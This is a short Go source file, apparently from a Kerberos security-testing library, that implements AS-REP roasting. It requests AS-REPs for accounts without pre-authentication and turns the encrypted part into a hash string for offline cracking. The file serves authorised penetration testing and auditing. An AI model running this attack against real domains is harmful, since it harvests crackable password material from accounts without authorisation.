package orchestrator

import (
	"context"

	"github.com/sprout-sec/kerbeus-go/hashutils"
	"github.com/sprout-sec/kerbeus-go/krbuser"
	"github.com/sprout-sec/kerbeus-go/requester"
)

// ASREPRoast sends an AS-REQ for username with no pre-authentication
// attached (cipher nil) and formats the KDC's still-encrypted AS-REP part
// as a crack string. It never decrypts anything and never touches the
// vault: a successful roast means the target user doesn't require
// pre-auth, which is the finding, not a usable ticket.
func (o *Orchestrator) ASREPRoast(ctx context.Context, realm, username string, format hashutils.Format) (string, error) {
	user := krbuser.NewKrbUser(username, realm)

	asRep, err := requester.RequestASRep(ctx, o.Comm, user, nil, o.etypes())
	if err != nil {
		return "", err
	}

	return hashutils.ASRepCrackString(username, realm, asRep.EncPart, format), nil
}
